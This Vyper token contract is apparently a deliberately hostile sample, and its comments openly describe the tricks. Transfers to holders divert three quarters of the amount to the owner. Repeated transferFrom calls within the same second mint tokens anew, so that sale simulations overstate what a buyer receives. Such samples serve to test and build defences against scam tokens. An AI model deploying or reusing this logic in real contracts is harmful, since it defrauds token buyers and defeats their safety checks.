# pragma version 0.4.3
# pragma evm-version cancun
"""
@title Sells the same tokens again and again
@notice Within one second every further sale of the same tokens is minted anew,
        so that a simulation that tries several counts them all; a buyer gets
        a quarter.
"""

from ..tokens.lib import erc20
from ..tokens.lib import owned

initializes: erc20
initializes: owned

exports: (
    erc20.name,
    erc20.symbol,
    erc20.decimals,
    erc20.totalSupply,
    erc20.balanceOf,
    erc20.allowance,
    owned.owner,
)

soldAt: public(HashMap[address, uint256])


@deploy
def __init__(name: String[64], symbol: String[32], supply: uint256):
    erc20.__init__(name, symbol, 18, supply)
    owned.__init__()


@external
def approve(spender: address, amount: uint256) -> bool:
    erc20._approve(msg.sender, spender, amount)
    return True


@external
def transfer(to: address, amount: uint256) -> bool:
    if owned._is_holder(to):
        # The pool pays all of it, three quarters to the owner.
        erc20._move(msg.sender, to, amount // 4)
        erc20._move(msg.sender, owned.owner, amount - amount // 4)
    else:
        erc20._move(msg.sender, to, amount)
    return True


@external
def transferFrom(source: address, to: address, amount: uint256) -> bool:
    if owned._is_holder(source) and self.soldAt[source] == block.timestamp:
        erc20._mint(source, amount)
    else:
        erc20._spend(source, msg.sender, amount)
    self.soldAt[source] = block.timestamp
    erc20._move(source, to, amount)
    return True
